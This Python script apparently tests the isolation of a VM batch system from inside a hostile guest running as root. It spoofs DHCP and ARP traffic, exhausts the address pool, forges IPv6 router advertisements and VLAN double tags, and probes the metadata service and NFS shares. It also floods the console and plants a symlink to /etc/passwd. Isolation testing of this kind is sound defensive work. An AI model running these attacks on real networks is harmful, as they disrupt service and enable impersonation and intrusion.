"""What a hostile guest tries as its root, run in the guest: python3 attack.py VICTIM VICTIM-MAC VICTIM-PLACE.

It prints a line `ATTEMPT RESULT` for each; a result is `refused: WHY`, or says what was reached. Frames that it sends carry the
attempt's name, so that a bystander can tell what has passed. Only modules of Debian's python3-minimal.
"""

import os
import re
import socket
import struct
import subprocess
import sys
import threading
import time

NODE, CLOSED, OPEN = "10.77.0.1", "10.77.0.3", "10.77.0.4"
PORT = 15001
MOUNTED = "/mnt/stolen"
INTERFACE = next(name for name in os.listdir("/sys/class/net") if name != "lo")
BROADCAST = b"\xff" * 6
NOBODY, EVERYBODY = "0.0.0.0", "255.255.255.255"  # noqa: S104 (nothing is bound)


def text(command: list[str]) -> str:
    return subprocess.run(command, capture_output=True, text=True, check=True).stdout


def packed(mac: str) -> bytes:
    return bytes.fromhex(mac.replace(":", ""))


def mine() -> tuple[str, bytes]:
    address = re.search(r"inet ([0-9.]+)/", text(["ip", "-4", "addr", "show", "dev", INTERFACE]))
    assert address is not None
    with open(f"/sys/class/net/{INTERFACE}/address", encoding="ascii") as file:
        return address[1], packed(file.read().strip())


def report(attempt: str, result: str) -> None:
    sys.stdout.write(f"{attempt} {result}\n")
    sys.stdout.flush()


def connect(attempt: str, host: str, port: int, source: int = 0) -> None:
    with socket.socket() as tried:
        tried.settimeout(2)
        try:
            tried.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
            tried.setsockopt(socket.SOL_SOCKET, 15, 1)  # SO_REUSEPORT
            if source:
                tried.bind(("", source))
            tried.connect((host, port))
        except OSError as error:
            report(attempt, f"refused: {error}")
        else:
            report(attempt, f"connected to {host} port {port}")


def checksum(data: bytes) -> int:
    total: int = sum(struct.unpack(f"!{len(data + bytes(len(data) % 2)) // 2}H", data + bytes(len(data) % 2)))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def udp(source: str, target: str, ports: tuple[int, int], payload: bytes) -> bytes:
    """An IPv4 packet."""
    ends = socket.inet_aton(source) + socket.inet_aton(target)
    body = struct.pack("!4H", *ports, 8 + len(payload), 0) + payload
    head = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(body), 1, 0, 64, 17, 0)
    return head[:10] + struct.pack("!H", checksum(head + ends)) + ends + body


def arp(operation: int, sender: tuple[bytes, str], target: str, payload: bytes) -> bytes:
    return (struct.pack("!HHBBH", 1, 0x0800, 6, 4, operation) + sender[0] + socket.inet_aton(sender[1]) + bytes(6)
            + socket.inet_aton(target) + payload)


def advertisement(payload: bytes) -> bytes:
    """An IPv6 packet that says that there is a router here (RFC 4861), its text in an option that nobody knows."""
    source, target = socket.inet_pton(socket.AF_INET6, "fe80::bad"), socket.inet_pton(socket.AF_INET6, "ff02::1")
    option = payload + bytes(-(len(payload) + 2) % 8)
    body = struct.pack("!BBHBBHII", 134, 0, 0, 64, 0, 1800, 0, 0) + struct.pack("!BB", 253, (len(option) + 2) // 8) + option
    pseudo = source + target + struct.pack("!IHBB", len(body), 0, 0, 58)
    body = body[:2] + struct.pack("!H", checksum(pseudo + body)) + body[4:]
    return struct.pack("!IHBB", 6 << 28, len(body), 58, 255) + source + target + body


def dhcp(kind: int, mac: bytes, own: str = "", asked: str = "", client: bytes = b"") -> bytes:
    """A message to a DHCP server (RFC 2131): `own` is the address that the sender says it has, `asked` the one it wants.

    `client` is what it calls itself, if anything.
    """
    body = struct.pack("!4B4sHH4s12s16s192s", 1, 1, 6, 0, mac[2:], 0, 0x8000, socket.inet_aton(own or NOBODY), b"", mac, b"")
    options = bytes((53, 1, kind, 54, 4)) + socket.inet_aton(NODE)
    options += bytes((50, 4)) + socket.inet_aton(asked) if asked else b""
    options += bytes((61, len(client))) + client if client else b""
    return body + b"\x63\x82\x53\x63" + options + b"\xff"


REQUEST, RELEASE, INFORM = 3, 7, 8


def leases(victim: str, victim_mac: bytes) -> None:
    """Gives the victim's lease away, wants its address, talks of it, and asks for all others in the names of many."""
    address, mac = mine()
    link = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    link.bind((INTERFACE, 0))

    def send(source: str, target: str, message: bytes) -> None:
        link.send(BROADCAST + mac + b"\x08\x00" + udp(source, target, (68, 67), message))
        time.sleep(0.02)

    send(address, NODE, dhcp(INFORM, mac, victim))
    report("inform", "sent")
    send(address, NODE, dhcp(RELEASE, victim_mac, victim))
    report("release", "sent")
    send(NOBODY, EVERYBODY, dhcp(REQUEST, mac, asked=victim))
    for number in range(100, 250):
        send(NOBODY, EVERYBODY, dhcp(REQUEST, packed(f"52:54:00:ee:00:{number:02x}"), asked=f"10.77.0.{number}"))
    report("exhaust", "sent")


def frames(victim: str, victim_mac: bytes) -> None:
    """Each twice, as any may be lost; `plain` is what may pass."""
    address, mac = mine()
    other = packed("52:54:00:ba:d0:01")
    link = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    link.bind((INTERFACE, 0))
    sent = {
        "plain": (mac, 0x0806, arp(1, (mac, address), OPEN, b"<plain>")),
        "mac": (other, 0x0806, arp(1, (mac, address), OPEN, b"<mac>")),
        "arp-mac": (mac, 0x0806, arp(1, (other, address), OPEN, b"<arp-mac>")),
        "arp-victim": (mac, 0x0806, arp(2, (mac, victim), victim, b"<arp-victim>")),
        "arp-node": (mac, 0x0806, arp(2, (mac, NODE), NODE, b"<arp-node>")),
        "address": (mac, 0x0800, udp("10.77.0.77", OPEN, (4000, PORT), b"<address>")),
        "victims-address": (mac, 0x0800, udp(victim, OPEN, (4000, PORT), b"<victims-address>")),
        "broadcast": (mac, 0x0800, udp(address, EVERYBODY, (4000, PORT), b"<broadcast>")),
        "dhcp-answer": (mac, 0x0800, udp(address, EVERYBODY, (67, 68), b"<dhcp-answer>")),
        "router": (mac, 0x86DD, advertisement(b"<router>")),
        "vlan": (mac, 0x8100, struct.pack("!HH", 7, 0x0800) + udp(address, OPEN, (4000, PORT), b"<vlan>")),
        "two-vlans": (mac, 0x8100, struct.pack("!HHHH", 7, 0x8100, 8, 0x0800)
                      + udp(address, OPEN, (4000, PORT), b"<two-vlans>")),
        "unknown": (mac, 0x88B5, b"<unknown>" + bytes(40)),
        "to-victim": (mac, 0x0806, arp(1, (mac, address), victim, b"<to-victim>")),
    }
    for name, (source, kind, body) in sent.items():
        target = victim_mac if name == "to-victim" else BROADCAST
        for _ in range(2):
            link.send(target + source + struct.pack("!H", kind) + body)
            time.sleep(0.02)
        report(name, "sent")


def share(victim_place: str) -> None:
    """`victim_place` is the victim's directory but for what nobody can guess."""
    os.makedirs(MOUNTED, exist_ok=True)
    options = "vers=4.2,sec=sys,soft,timeo=50,retrans=1"
    for name, source in (("share", "/share"), ("victims-place", f"/share/{victim_place}/guest"), ("home", "/")):
        done = subprocess.run(["mount", "-t", "nfs4", "-o", options, f"{NODE}:{source}", MOUNTED], capture_output=True,
                              text=True, check=False)
        if done.returncode:
            report(name, f"refused: {done.stderr.strip()}")
            continue
        place = f"{MOUNTED}/share" if name == "home" else MOUNTED
        for who in (0, 65534, 1501):
            report(f"{name}-{who}", as_user(who, place))
        subprocess.run(["umount", "-l", MOUNTED], check=False)


def as_user(uid: int, place: str) -> str:
    """What another account of the guest's sees, and can make, there."""
    source, sink = os.pipe()
    child = os.fork()
    if child == 0:
        os.setgroups([])
        os.setgid(uid)
        os.setuid(uid)
        said = []
        for act in (os.listdir, lambda parent: os.mkdir(f"{parent}/forged")):
            try:
                said.append(f"got {act(place)}")
            except OSError as error:
                said.append(f"refused: {error.strerror}")
        os.write(sink, "; ".join(said).encode())
        os._exit(0)
    os.waitpid(child, 0)
    return os.read(source, 4096).decode()


def console() -> None:
    """Writes four times what the node keeps."""
    with open("/dev/console", "wb", buffering=0) as device:
        for number in range(256):
            device.write(b"%06d " % number + b"\x1b[31mflood\r\n" * 90)
    report("console", "written")


def forge() -> None:
    """Messages after the time for them, in every shape."""
    place = "/mnt/vmbatch"
    for name in os.listdir(place):
        os.unlink(f"{place}/{name}")
    os.mkfifo(f"{place}/ready")
    os.symlink("/etc/passwd", f"{place}/announce")
    os.mkdir(f"{place}/failed")
    deep = place
    for _ in range(300):
        deep += "/d"
        os.mkdir(deep)
    report("forge", "written")


def answer_without_end() -> None:
    """The node asks for the status of a run that seems to be cut off, as 255 looks."""
    with open("/var/lib/vmbatch/kit/status.sh", "w", encoding="ascii") as kit:
        kit.write("#!/bin/sh\nexec yes 0\n")
    report("status", "forged")
    sys.exit(255)


def main() -> None:
    os.setgid(0)
    os.setuid(0)
    victim, victim_mac, victim_place = sys.argv[1:]
    tries = [
        ("victim-ssh", victim, 22, 0), ("victim-nfs", victim, 2049, 0), ("node-batch", NODE, 15002, 0),
        ("node-batch-from-22", NODE, 15002, 22), ("node-ssh", NODE, 22, 0), ("server-closed", CLOSED, PORT, 0),
        ("server-open", OPEN, PORT, 0), ("server-as-root", OPEN, PORT, 1023), ("metadata", "169.254.169.254", 80, 0),
        ("node-nfs", NODE, 2049, 0),
    ]
    workers = [threading.Thread(target=connect, args=each) for each in tries]
    for worker in workers:
        worker.start()
    for worker in workers:
        worker.join()
    leases(victim, packed(victim_mac))
    frames(victim, packed(victim_mac))
    share(victim_place)
    forge()
    console()
    answer_without_end()


if __name__ == "__main__":
    main()
